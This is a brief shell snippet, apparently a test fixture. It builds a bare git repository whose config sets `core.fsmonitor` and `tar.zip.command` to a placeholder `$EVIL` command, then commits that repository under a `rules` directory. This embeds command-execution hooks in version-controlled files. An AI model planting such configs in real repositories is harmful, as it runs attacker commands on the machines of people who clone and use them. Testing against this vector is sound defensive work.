git init -q --bare bare
git -C bare config tar.zip.command "$EVIL"
git -C bare config core.fsmonitor "$EVIL"
cp -r bare/. rules
rm -r bare
git add rules/HEAD rules/config rules/description rules/hooks rules/info
save bare
